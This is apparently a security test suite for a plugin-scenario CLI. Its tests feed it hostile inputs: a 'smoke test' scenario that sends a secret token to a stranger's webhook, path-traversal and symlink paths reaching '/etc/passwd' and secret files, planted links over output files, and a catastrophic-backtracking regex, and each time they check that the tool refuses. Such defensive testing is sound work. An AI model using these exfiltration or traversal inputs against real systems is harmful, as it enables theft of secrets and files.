import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { lstat, mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { runScenario } from '../../src/emulator-entry.js';
import { recordScenario } from '../../src/scenario/record.js';
import { validateScenario } from '../../src/scenario/validate.js';
import { runCli, spawnCli } from '../kit/cli-process.js';
import { receiver, tempDir } from '../kit/index.js';
import { markedProcesses } from '../kit/processes.js';
import { typescriptProject } from '../kit/project.js';
import { emulatorAndClient, serveEchoPlugin } from '../kit/plugin-server.js';

// Scenario files and recordings are attacker input (issue 41): a recording of a stranger's chat
// message, a scenario file from a cloned project. A real emulator, a real plugin on a port that
// answers each message with what it was told (and notes every text it was sent), and the CLI
// spawned against them.

const SECRET = 'probe-secret-value-7c1f9a';

async function setUp() {
  const { emu, client } = await emulatorAndClient();
  /** `received`: every message text the plugin was sent. */
  const { pluginId, received } = await serveEchoPlugin(emu, client);
  const instance = await client.agentPlugins.install('agent_nova', {
    name: 'probe',
    pluginId,
    events: ['AGENT_MESSAGE_RECEIVED'],
    scopes: ['AGENT_MESSAGE_WRITE'],
    inputs: {},
  } as never);
  await emu.waitForDelivery({ type: 'PLUGIN_INSTALLED', pluginId });
  /** The CLI's environment: this emulator as its target, with every credential. */
  const cliEnv = async () => ({
    PLUGSMITH_CONFIG_DIR: await tempDir('plugsmith-cfg-'),
    PLUGSMITH_BASE_URL: emu.url,
    PLUGSMITH_MESSAGING_URL: emu.messagingUrl,
    PLUGSMITH_TOKEN: emu.token!,
    PLUGSMITH_API_KEY: emu.apiKey!,
    PLUGSMITH_ADMIN_TOKEN: emu.adminToken!,
  });
  return { emu, client, pluginId, instanceId: instance.id, received, cliEnv };
}

/** A scenario that sends `text` in a conversation with the plugin's agent and expects `reply`. */
function chat(text: string, reply: string, extra: Record<string, unknown> = {}) {
  return {
    name: 'chat',
    ...extra,
    steps: [
      { id: 'conv', conversation: { agent: 'agent_nova' } },
      {
        message: { conversation: '${conv.id}', text },
        expect: [{ reply: { text: reply } }],
      },
    ],
  };
}

describe('${env.*}: recorded text stays text, and expanded values never come back', () => {
  test('a recorded chat message "${env.PROBE_SECRET}" replays as that literal text, with the variable set', async () => {
    const { client, pluginId, received } = await setUp();
    const since = new Date().toISOString();
    const conversation = await client.messaging.conversations.create({ characterId: 'char_nova' });
    await client.messaging.messages.send(conversation.id, {
      content: 'hi ${env.PROBE_SECRET}',
      type: 'TEXT',
    });
    for (let i = 0; received.length === 0 && i < 500; i++)
      await new Promise((r) => setTimeout(r, 10));
    const recording = await recordScenario(client, {
      pluginId,
      since,
      name: 'recorded',
      schema: null,
      manifestInstalls: [],
    });
    const text = JSON.stringify(recording.scenario);
    expect(text).toContain('hi $${env.PROBE_SECRET}');

    received.length = 0;
    const result = await runScenario(recording.scenario, {
      client,
      pluginId,
      env: { PROBE_SECRET: SECRET },
    });
    expect(result.ok, JSON.stringify(result, null, 2)).toBe(true);
    expect(received).toEqual(['hi ${env.PROBE_SECRET}']);
    expect(JSON.stringify(result)).not.toContain(SECRET);
  });

  test("an install's credential inputs are recorded as declared variables, never their values, and replay from the environment", async () => {
    const { emu, client, pluginId, instanceId } = await setUp();
    const since = new Date().toISOString();
    // Uninstalled first: the agent holds one instance of a plugin.
    await client.agentPlugins.remove('agent_nova', instanceId);
    const inputs = {
      openaiKey: 'sk-proj-REALSECRETabcdefghijklmnop',
      db: { url: 'postgres://admin:Hunter2pass@db.example.com/x', pool: 5 },
      password: 'Hunter2pass-long-enough',
      region: 'eu-west-1',
      author: 'Jane',
      note: 'hi ${env.PROBE_SECRET}',
    };
    await client.agentPlugins.install('agent_nova', {
      name: 'prod',
      pluginId,
      events: ['AGENT_MESSAGE_RECEIVED'],
      scopes: ['AGENT_MESSAGE_WRITE'],
      inputs,
    } as never);
    await emu.waitForDelivery({ type: 'PLUGIN_INSTALLED', pluginId, status: 'any' });
    const recording = await recordScenario(client, {
      pluginId,
      since,
      name: 'recorded',
      schema: null,
      manifestInstalls: [],
    });
    const text = JSON.stringify(recording.scenario);
    for (const secret of ['REALSECRET', 'Hunter2pass']) expect(text).not.toContain(secret);
    const install = (
      recording.scenario.steps as Array<{ install?: { inputs: Record<string, unknown> } }>
    ).find((step) => step.install)!.install!;
    expect(install.inputs).toEqual({
      openaiKey: '${env.PROD_OPENAI_KEY}',
      db: { url: '${env.PROD_DB_URL}', pool: 5 },
      password: '${env.PROD_PASSWORD}',
      region: 'eu-west-1',
      author: 'Jane',
      note: 'hi $${env.PROBE_SECRET}',
    });
    expect(recording.scenario.env).toEqual(['PROD_OPENAI_KEY', 'PROD_DB_URL', 'PROD_PASSWORD']);
    expect(recording.notes).toContain(
      "the install prod's inputs.openaiKey looks like a credential: written as ${env.PROD_OPENAI_KEY}, never its value; to replay, set PROD_OPENAI_KEY and pass --allow-env PROD_OPENAI_KEY",
    );
    expect(validateScenario(recording.scenario).problems).toEqual([]);

    // Replayed with the variables set: the instance gets the values from the environment.
    const installed = await client.agentPlugins.list('agent_nova');
    for (const instance of installed.data)
      await client.agentPlugins.remove('agent_nova', instance.id);
    const result = await runScenario(recording.scenario, {
      client,
      pluginId,
      env: {
        PROD_OPENAI_KEY: inputs.openaiKey,
        PROD_DB_URL: inputs.db.url,
        PROD_PASSWORD: inputs.password,
      },
    });
    expect(result.ok, JSON.stringify(result, null, 2)).toBe(true);
    const replayed = (await client.agentPlugins.list('agent_nova')).data.find(
      (i) => i.name === 'prod',
    );
    expect(replayed?.inputs).toEqual(inputs);
    expect(JSON.stringify(result)).not.toContain('REALSECRET');
  });

  test('a declared variable is sent to the plugin, and its value is in no result: labels, expectations, what came', async () => {
    const { client, pluginId, received } = await setUp();
    const scenario = chat('hi ${env.PROBE_SECRET}', 'not what it says', { env: ['PROBE_SECRET'] });
    const steps: string[] = [];
    const result = await runScenario(scenario, {
      client,
      pluginId,
      env: { PROBE_SECRET: SECRET },
      onStep: (step) => steps.push(JSON.stringify(step)),
    });
    expect(received).toEqual([`hi ${SECRET}`]);
    expect(result.ok).toBe(false);
    const failed = result.steps[1];
    expect(failed.label).toBe('message "hi ${env.PROBE_SECRET}"');
    expect(failed.failures[0].observed).toBe('"You said: hi ${env.PROBE_SECRET}"');
    expect(JSON.stringify(result)).not.toContain(SECRET);
    expect(steps.join('\n')).not.toContain(SECRET);
  });

  test('a long value, or one with a quote, is in no label or observed text either: no cut or escaped piece of it', async () => {
    const { client, pluginId, received } = await setUp();
    // Longer than a label's 40 characters (an API key's length), and with what JSON escapes.
    const long = 'sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefghijklmnop';
    const quoted = 'Pa"ss\\w0rd!';
    for (const [value, pieces] of [
      [long, [long.slice(0, 20), long.slice(0, 37)]],
      [quoted, [quoted, JSON.stringify(quoted).slice(1, -1)]],
    ] as const) {
      const steps: string[] = [];
      const result = await runScenario(
        chat('${env.PROBE_SECRET}', 'not what it says', { env: ['PROBE_SECRET'] }),
        {
          client,
          pluginId,
          env: { PROBE_SECRET: value },
          onStep: (step) => steps.push(JSON.stringify(step)),
        },
      );
      expect(result.ok).toBe(false);
      expect(result.steps[1].label).toBe('message "${env.PROBE_SECRET}"');
      const said = `${JSON.stringify(result)}\n${steps.join('\n')}\n${result.steps[1].failures[0].observed}`;
      for (const piece of pieces) expect(said, piece).not.toContain(piece);
    }
    expect(received).toEqual([long, quoted]);
  });

  test('$${ is a literal ${ in a scenario', async () => {
    const { client, pluginId, received } = await setUp();
    const result = await runScenario(
      chat('costs $$5 and $${env.HOME}', 'You said: costs $$5 and $${env.HOME}'),
      { client, pluginId, env: { HOME: '/root' } },
    );
    expect(result.ok, JSON.stringify(result, null, 2)).toBe(true);
    expect(received).toEqual(['costs $$5 and ${env.HOME}']);
  });

  test('an undeclared ${env.NAME} stops the CLI before anything runs, naming the fix', async () => {
    const { pluginId, received, cliEnv } = await setUp();
    const dir = await tempDir();
    await writeFile(join(dir, 'chat.json'), JSON.stringify(chat('hi ${env.PROBE_SECRET}', 'x')));
    const run = await runCli(['scenario', 'run', 'chat.json', '--plugin', pluginId], {
      cwd: dir,
      env: { ...(await cliEnv()), PROBE_SECRET: SECRET },
    });
    expect(run.code, run.stderr).toBe(2);
    expect(run.stderr).toContain('does not declare the environment variable PROBE_SECRET');
    expect(run.stderr).toContain('add "env": ["PROBE_SECRET"]');
    expect(received).toEqual([]);
  });

  test("a file's own env list passes nothing: a scenario that would send a variable to a webhook host stops before anything is sent, naming --allow-env", async () => {
    const { pluginId, cliEnv } = await setUp();
    const stranger = await receiver();
    const dir = await tempDir();
    // From a cloned project: a "smoke test" that points a new plugin's webhook at another host, the token in its URL.
    const exfiltrate = {
      name: 'plugin smoke test',
      env: ['PROBE_SECRET'],
      steps: [
        {
          id: 'made',
          request: {
            method: 'POST',
            path: '/api/plugins',
            body: {
              orgId: 'org_dev',
              name: 'helper',
              type: 'EVENT_HANDLER',
              webhookUrl: `${stranger.webhookUrl}?t=\${env.PROBE_SECRET}`,
            },
          },
        },
        { request: { method: 'POST', path: '/api/plugins/${made.data.id}/verify-webhook' } },
      ],
    };
    await writeFile(join(dir, 'smoke.json'), JSON.stringify(exfiltrate));
    const env = { ...(await cliEnv()), PROBE_SECRET: SECRET };
    const run = (...extra: string[]) =>
      runCli(['scenario', 'run', 'smoke.json', '--plugin', pluginId, ...extra], { cwd: dir, env });
    const refused = await run();
    expect(refused.code, refused.stderr).toBe(2);
    expect(refused.stderr).toContain(
      'the scenario asks for the environment variable PROBE_SECRET, which this run does not pass',
    );
    expect(refused.stderr).toContain('--allow-env PROBE_SECRET');
    expect(refused.stderr).toContain('PLUGSMITH_SCENARIO_ENV=PROBE_SECRET');
    // Said once, at the file's "env": not again as "not set" at the reference.
    expect(refused.stderr).not.toContain('is not set');
    expect(`${refused.stdout}${refused.stderr}`).not.toContain(SECRET);
    expect(stranger.received).toEqual([]);
    // Allowing another name is not allowing this one.
    const other = await run('--allow-env', 'HOME,PATH');
    expect(other.code, other.stderr).toBe(2);
    expect(stranger.received).toEqual([]);
    // The person's choice passes it: then the steps send it where they say.
    const allowed = await run('--allow-env', 'PROBE_SECRET');
    expect(allowed.code, allowed.stderr).toBe(0);
    expect(stranger.received.map((request) => request.url)).toEqual([`/webhook?t=${SECRET}`]);
  });

  test('the CLI shows no expanded value: console, --json and JUnit', async () => {
    const { pluginId, received, cliEnv } = await setUp();
    const dir = await tempDir();
    const scenario = chat('hi ${env.PROBE_SECRET}', 'a reply it will not give', {
      env: ['PROBE_SECRET'],
    });
    await writeFile(join(dir, 'chat.json'), JSON.stringify(scenario));
    // Passed by the person running it: PLUGSMITH_SCENARIO_ENV here, --allow-env below.
    const env = {
      ...(await cliEnv()),
      PROBE_SECRET: SECRET,
      PLUGSMITH_SCENARIO_ENV: 'PROBE_SECRET',
    };
    const human = await runCli(
      ['scenario', 'run', 'chat.json', '--plugin', pluginId, '--junit', 'report.xml'],
      { cwd: dir, env },
    );
    expect(human.code, human.stderr).toBe(1);
    expect(human.stdout).toContain('You said: hi ${env.PROBE_SECRET}');
    const json = await runCli(
      [
        'scenario',
        'run',
        'chat.json',
        '--plugin',
        pluginId,
        '--json',
        '--allow-env',
        'PROBE_SECRET',
      ],
      { cwd: dir, env: { ...env, PLUGSMITH_SCENARIO_ENV: '' } },
    );
    expect(json.code, json.stderr).toBe(1);
    expect(JSON.parse(json.stdout).scenarios[0].steps[1].label).toBe(
      'message "hi ${env.PROBE_SECRET}"',
    );
    const junit = await readFile(join(dir, 'report.xml'), 'utf8');
    expect(junit).toContain('${env.PROBE_SECRET}');
    for (const output of [human.stdout, human.stderr, json.stdout, json.stderr, junit])
      expect(output).not.toContain(SECRET);
    // The plugin did get it: the scenario declared it.
    expect(received).toEqual([`hi ${SECRET}`, `hi ${SECRET}`]);
  });
});

describe('addFile.path: only regular files inside the project', () => {
  /** A project folder with scenarios/ and a file beside it outside the project. */
  async function project() {
    const work = await tempDir();
    const root = join(work, 'project');
    await mkdir(join(root, 'scenarios', 'data'), { recursive: true });
    await writeFile(join(work, 'outside-secret.txt'), 'outside secret');
    await writeFile(join(root, 'scenarios', 'data', 'guide.md'), '# Guide');
    // The emulator's own files in the project: its storage signing key.
    await mkdir(join(root, '.plugsmith', 'emulator'), { recursive: true });
    await writeFile(join(root, '.plugsmith', 'emulator', 'storage-secret'), 'storage signing key');
    await symlink(join(work, 'outside-secret.txt'), join(root, 'scenarios', 'data', 'link.md'));
    execFileSync('mkfifo', [join(root, 'scenarios', 'data', 'pipe.md')]);
    return { work, root };
  }

  async function addFileRun(
    root: string,
    path: string,
    file = join(root, 'scenarios', 'add.json'),
  ) {
    const { client, pluginId } = await setUp();
    await writeFile(
      file,
      JSON.stringify({
        name: 'add',
        steps: [{ addFile: { repository: 'repo_docs', name: 'uploaded.md', path } }],
      }),
    );
    const result = await runScenario(file, { client, pluginId, projectRoot: root });
    const files = await client.repositories.files.list('repo_docs', { limit: 100 });
    return { result, uploaded: files.data.filter((f) => f.fileName === 'uploaded.md') };
  }

  test('a file inside the project is uploaded', async () => {
    const { root } = await project();
    const { result, uploaded } = await addFileRun(root, 'data/guide.md');
    expect(result.ok, JSON.stringify(result, null, 2)).toBe(true);
    expect(uploaded).toHaveLength(1);
  });

  test.each([
    ['/etc/passwd', 'leads outside the project'],
    ['../../outside-secret.txt', 'leads outside the project'],
    ['data/link.md', 'leads outside the project'],
    ['/dev/zero', 'leads outside the project'],
    ['data/pipe.md', 'is not a regular file'],
    ['data/missing.md', 'does not exist'],
    ['../.plugsmith/emulator/storage-secret', "is under .plugsmith/, the emulator's own files"],
  ])('%s is refused (%s) before anything is uploaded', async (path, why) => {
    const { root } = await project();
    const { result, uploaded } = await addFileRun(root, path);
    expect(result.ok).toBe(false);
    expect(result.steps[0].error).toContain(`addFile.path ${JSON.stringify(path)} ${why}`);
    expect(uploaded).toEqual([]);
  });

  test('a scenario file outside the project cannot name files beside it', async () => {
    const { work, root } = await project();
    const { result, uploaded } = await addFileRun(
      root,
      'outside-secret.txt',
      join(work, 'stray.json'),
    );
    expect(result.steps[0].error).toContain("the scenario file's folder");
    expect(uploaded).toEqual([]);
  });
});

test('a scenario file that is a FIFO is refused by the CLI, not waited on', async () => {
  const dir = await tempDir();
  execFileSync('mkfifo', [join(dir, 'pipe.json')]);
  const run = await runCli(['scenario', 'run', 'pipe.json', '--plugin', 'plg_x'], {
    cwd: dir,
    env: { PLUGSMITH_CONFIG_DIR: join(dir, 'config'), PLUGSMITH_BASE_URL: 'http://127.0.0.1:9' },
  });
  expect(run.code, run.stderr).toBe(2);
  expect(run.stderr).toContain('the scenario file');
  expect(run.stderr).toContain('is not a regular file');
});

describe('reply.pattern runs on RE2', () => {
  test('(a+)+b against a reply of 30 a’s fails at once instead of backtracking for minutes', async () => {
    const { client, pluginId } = await setUp();
    const scenario = {
      name: 'pattern',
      steps: [
        { id: 'conv', conversation: { agent: 'agent_nova' } },
        {
          message: { conversation: '${conv.id}', text: 'a'.repeat(30) },
          expect: [{ reply: { pattern: '(a+)+b', withinMs: 60_000 } }],
        },
      ],
    };
    const result = await runScenario(scenario, { client, pluginId });
    expect(result.ok).toBe(false);
    expect(result.steps[1].failures[0]).toMatchObject({
      expected: 'a reply matching /(a+)+b/',
      observed: `"You said: ${'a'.repeat(30)}"`,
    });
  });

  test('a pattern RE2 cannot run is a validation problem', () => {
    const checked = validateScenario({
      name: 'bad pattern',
      steps: [
        { id: 'conv', conversation: {} },
        {
          message: { conversation: '${conv.id}', text: 'hi' },
          expect: [{ reply: { pattern: '(a)\\1' } }],
        },
      ],
    });
    expect(checked.problems).toEqual([
      {
        path: 'steps[1].expect[0].reply.pattern',
        message: expect.stringContaining('not a pattern RE2 can run'),
        fix: expect.stringContaining('no backreferences'),
      },
    ]);
  });
});

describe('outputs a person names: a planted link is replaced, never followed', () => {
  test('--junit over a link to a victim file (and a dangling one) writes a file there; the report is XML 1.0', async () => {
    const { pluginId, cliEnv } = await setUp();
    const dir = await tempDir();
    await writeFile(join(dir, 'victim.txt'), 'victim');
    await symlink(join(dir, 'victim.txt'), join(dir, 'report.xml'));
    await symlink(join(dir, 'nowhere', 'made.xml'), join(dir, 'dangling.xml'));
    const hostile = 'odd \uffff\ufffe\u0001\u001b\ud800 end';
    await writeFile(join(dir, 'chat.json'), JSON.stringify(chat(hostile, 'something else')));
    const env = await cliEnv();
    for (const report of ['report.xml', 'dangling.xml']) {
      const run = await runCli(
        ['scenario', 'run', 'chat.json', '--plugin', pluginId, '--junit', report],
        { cwd: dir, env },
      );
      expect(run.code, run.stderr).toBe(1);
      expect((await lstat(join(dir, report))).isFile()).toBe(true);
      const junit = await readFile(join(dir, report), 'utf8');
      expect(junit).toContain('odd ');
      expect(junit).not.toMatch(
        // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not be there
        /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff\ud800-\udfff]/,
      );
    }
    expect(await readFile(join(dir, 'victim.txt'), 'utf8')).toBe('victim');
    expect(existsSync(join(dir, 'nowhere'))).toBe(false);
  });

  test('record -o over a planted link replaces the link', async () => {
    const { pluginId, cliEnv } = await setUp();
    const dir = await tempDir();
    await mkdir(join(dir, 'scenarios'));
    await writeFile(join(dir, 'victim.txt'), 'victim');
    await symlink(join(dir, 'victim.txt'), join(dir, 'scenarios', 'linked.json'));
    await symlink(join(dir, 'nowhere.json'), join(dir, 'scenarios', 'dangling.json'));
    const env = await cliEnv();
    const forced = await runCli(
      ['scenario', 'record', '-o', 'scenarios/linked.json', '--force', '--plugin', pluginId],
      { cwd: dir, env },
    );
    expect(forced.code, forced.stderr).toBe(0);
    const dangling = await runCli(
      ['scenario', 'record', '-o', 'scenarios/dangling.json', '--plugin', pluginId],
      { cwd: dir, env },
    );
    expect(dangling.code, dangling.stderr).toBe(0);
    for (const name of ['linked.json', 'dangling.json']) {
      expect((await lstat(join(dir, 'scenarios', name))).isFile()).toBe(true);
      expect(
        JSON.parse(await readFile(join(dir, 'scenarios', name), 'utf8')).steps[0],
      ).toHaveProperty('install');
    }
    expect(await readFile(join(dir, 'victim.txt'), 'utf8')).toBe('victim');
    expect(existsSync(join(dir, 'nowhere.json'))).toBe(false);
  });
});

test('a scenario nested 50,000 deep is a problem with its path, not a stack overflow', async () => {
  const dir = await tempDir();
  const deep = `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`;
  const text = `{"name":"deep","steps":[{"trigger":{"event":"AGENT_MESSAGE_RECEIVED","payload":${deep}}}]}`;
  await writeFile(join(dir, 'deep.json'), text);
  const run = await runCli(['scenario', 'run', 'deep.json', '--plugin', 'plg_x'], {
    cwd: dir,
    env: { PLUGSMITH_CONFIG_DIR: join(dir, 'config'), PLUGSMITH_BASE_URL: 'http://127.0.0.1:9' },
  });
  expect(run.code, run.stderr).toBe(2);
  expect(run.stderr).toContain('steps[0].trigger.payload.a.a.a');
  expect(run.stderr).toContain('nested more than 64 levels deep');
  expect(run.stderr).not.toContain('Maximum call stack');
  // The library refuses the parsed object the same way.
  const checked = validateScenario(JSON.parse(text));
  expect(checked.problems).toHaveLength(1);
  expect(checked.problems[0].path).toMatch(/^steps\[0\]\.trigger\.payload(\.a)+$/);
});

/** A scenario whose second step waits (up to 10 minutes) for a reply that must not come: a run to interrupt. */
const LONG_WAIT = {
  name: 'long wait',
  steps: [
    { id: 'conv', conversation: { agent: 'agent_nova' } },
    {
      message: { conversation: '${conv.id}', text: 'quiet please' },
      expect: [{ none: { reply: true, withinMs: 600_000 } }],
    },
  ],
};

describe('an interrupted run puts everything back', () => {
  test.each(['SIGINT', 'SIGTERM'] as const)(
    'scenario run --faults drop=1 against a running emulator, then %s: the profile and the scenario tag are set back',
    async (signal) => {
      const { emu, client, pluginId, cliEnv } = await setUp();
      emu.faults.set('delay=1-2ms', '5');
      const before = emu.faults.get();
      const dir = await tempDir();
      await writeFile(join(dir, 'wait.json'), JSON.stringify(LONG_WAIT));
      const cli = spawnCli(
        ['scenario', 'run', 'wait.json', '--plugin', pluginId, '--faults', 'drop=1'],
        {
          cwd: dir,
          env: await cliEnv(),
        },
      );
      await cli.lineMatching(/conversation with agent_nova/);
      expect(emu.faults.get()).toMatchObject({ on: true, profile: 'drop=1' });
      expect((await client.emulator.scenario.get()).name).toBe('long wait');
      const exited = await cli.stop(signal);
      expect(exited.code, cli.stderr()).toBe(signal === 'SIGINT' ? 130 : 143);
      expect(cli.stderr()).toContain(`interrupted by ${signal}`);
      expect(emu.faults.get()).toMatchObject({
        on: true,
        profile: before.profile,
        seed: before.seed,
      });
      expect((await client.emulator.scenario.get()).name).toBeNull();
    },
  );

  test.each(['SIGINT', 'SIGTERM'] as const)(
    'scenario run --start, then %s: the plugin it started is gone',
    async (signal) => {
      const work = await tempDir('plugsmith-start-');
      const dir = join(work, 'project');
      const env = {
        PLUGSMITH_CONFIG_DIR: join(work, 'config'),
        PLUGSMITH_BASE_URL: '',
        PLUGSMITH_TOKEN: '',
        PLUGSMITH_MESSAGING_URL: '',
        PLUGSMITH_API_KEY: '',
      };
      await typescriptProject(dir, 'EVENT_HANDLER', env);
      await writeFile(join(dir, 'wait.json'), JSON.stringify(LONG_WAIT));
      const mark = randomUUID();
      const cli = spawnCli(['scenario', 'run', '--start', 'wait.json'], {
        cwd: dir,
        env: { ...env, PROBE_MARK: mark },
      });
      await cli.lineMatching(/conversation with agent_nova/);
      const running = markedProcesses('PROBE_MARK', mark).filter((pid) => pid !== cli.child.pid);
      expect(running.length).toBeGreaterThan(0);
      const exited = await cli.stop(signal);
      expect(exited.code, cli.stderr()).toBe(signal === 'SIGINT' ? 130 : 143);
      expect(markedProcesses('PROBE_MARK', mark)).toEqual([]);
    },
  );
});
